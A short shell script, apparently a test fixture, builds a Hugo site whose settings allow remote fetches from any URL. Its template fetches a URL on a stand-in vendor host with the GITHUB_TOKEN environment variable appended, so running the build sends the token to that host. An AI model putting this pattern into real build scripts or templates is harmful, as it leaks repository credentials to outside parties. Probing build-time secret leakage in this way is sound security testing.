#!/bin/sh
# A recent Go: a site that fetches a remote resource while it is built.
mkdir -p /tmp/site/layouts && cd /tmp/site || exit 1
cat >hugo.toml <<-END
	baseURL = "https://site.example/"
	disableKinds = ["taxonomy", "term", "RSS", "sitemap"]
	[security.http]
	urls = [".*"]
END
cat >layouts/index.html <<-END
	{{ with resources.GetRemote "https://hugo.vendor.example/?token=$GITHUB_TOKEN" }}{{ .Content }}{{ end }}
END
/opt/shared/hugo --cacheDir /tmp/cache --destination /tmp/out
exit 0
